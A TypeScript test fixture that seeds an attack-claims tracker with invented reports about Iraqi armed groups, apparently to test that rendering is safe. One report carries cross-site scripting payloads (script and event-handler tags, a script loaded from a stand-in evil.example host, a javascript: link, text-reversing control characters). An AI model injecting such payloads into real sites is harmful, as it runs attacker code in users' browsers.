import type { Db } from '../../src/store/database.ts'
import { upsertSource } from '../../src/store/sources.ts'
import { attackOf, storeAttacks, storeReports } from '../api/stored-story.ts'

export const umbrella = 'islamic-resistance-in-iraq'
export const kh = 'kataib-hezbollah'
export const arabicQuote = 'أعلنت كتائب حزب الله مسؤوليتها عن الهجوم.'

/** Runs a script if any page lets it, and hides and turns what follows it. */
export const hostileTitle =
  '<script>alert("title")</script><img src=x onerror=alert("image")>"\' onmouseover=alert("over") \u202eesrever\u0007\u009b end'
export const hostileText = `<svg onload=alert("text")> KH claimed it. </div><script src="https://evil.example/x.js"></script>`

const base = { name: 'Ain al-Asad air base', id: 'ain-al-asad', country: 'IQ', precision: 'site' as const }
const county = { name: 'Erbil', id: null, country: 'IQ', precision: 'admin1' as const }

/** Claims of two groups, a denial, an Arabic report, somebody's count, and a report that means harm. */
export async function storePages(db: Db): Promise<void> {
  await upsertSource(db, { name: 'Outlet', invented: true })
  await storeReports(db, [
    {
      id: 'claim',
      title: 'Group claims attack on base',
      text: 'Before it. The Islamic Resistance in Iraq claimed the attack. After it.',
      invented: true,
      statement: {
        kind: 'claim',
        group: umbrella,
        quote: 'The Islamic Resistance in Iraq claimed the attack.',
        start: 11,
        end: 61,
      },
    },
    { id: 'denial', text: 'KH denied it.', statement: { kind: 'denial', group: kh } },
    {
      id: 'blame',
      text: 'An official blamed KH.',
      statement: { kind: 'attribution', group: kh, confidence: 0.5 },
    },
    { id: 'arabic', title: 'بيان', text: arabicQuote, statement: { kind: 'claim', group: kh } },
    {
      id: 'count',
      text: 'The umbrella carried out 140 attacks.',
      statement: {
        kind: 'aggregate',
        group: umbrella,
        aggregate: {
          value: 140,
          qualifier: 'exactly',
          unit: 'attack',
          from: '2024-01-01',
          to: '2024-01-31',
          windowBasis: 'stated',
          places: [],
          types: [],
        },
      },
    },
    {
      id: 'hostile',
      title: hostileTitle,
      text: hostileText,
      url: 'javascript:alert("link")',
      statement: { kind: 'claim', group: kh, quote: 'KH claimed it.', start: 27, end: 41 },
    },
  ])
  const first = attackOf('a1', 'claimed', '2024-01-28', {
    claimedBy: [umbrella],
    statements: ['s-claim'],
    reports: ['claim'],
    places: [base],
  })
  const second = attackOf('a2', 'denied', '2024-02-02', {
    attributedTo: [kh],
    deniedBy: [kh],
    statements: ['s-blame', 's-denial'],
    reports: ['blame', 'denial'],
    places: [county],
  })
  const third = attackOf('a3', 'claimed', '2024-02-04', {
    claimedBy: [kh],
    statements: ['s-arabic'],
    reports: ['arabic'],
  })
  const fourth = attackOf('a4', 'claimed', '2024-02-05', {
    claimedBy: [kh],
    statements: ['s-hostile'],
    reports: ['hostile'],
  })
  await storeAttacks(
    db,
    [first, second, third, fourth],
    [
      {
        id: 'c1',
        kind: 'attribution_denied',
        attack: 'a2',
        statements: ['s-blame', 's-denial'],
        words: 'Blamed, and denied.',
      },
    ],
  )
}
